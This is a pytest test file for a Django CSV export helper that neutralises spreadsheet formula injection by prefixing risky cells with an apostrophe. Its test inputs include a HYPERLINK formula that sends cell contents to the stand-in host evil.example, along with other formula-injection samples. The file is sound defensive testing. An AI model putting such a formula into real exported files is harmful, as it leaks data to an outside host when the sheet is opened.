"""hub.csv_export: no cell typed by a member runs as a formula in a spreadsheet."""

import csv
import datetime
import io

import pytest
from django.utils.translation import gettext_lazy

from hub.csv_export import BOM, csv_bytes, csv_response, neutralise


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&B2,"Voir")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # full-width equals sign
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Québec", " =1", "a=1", "", 42, -3, 1.5, None, True])
def test_other_values_are_written_as_they_are(value):
    assert neutralise(value) == value


def test_lazy_translations_become_text():
    assert neutralise(gettext_lazy("Yes")) in {"Yes", "Oui"}


def test_files_start_with_a_byte_order_mark_and_keep_accents():
    data = csv_bytes(["nom", "date"], [["=François", datetime.date(2026, 11, 3)]])
    assert data.startswith(BOM.encode())
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [
        ["nom", "date"],
        ["'=François", "2026-11-03"],
    ]
    response = csv_response("x.csv", ["a"], [["@x"]])
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.content.decode("utf-8") == BOM + "a\r\n'@x\r\n"
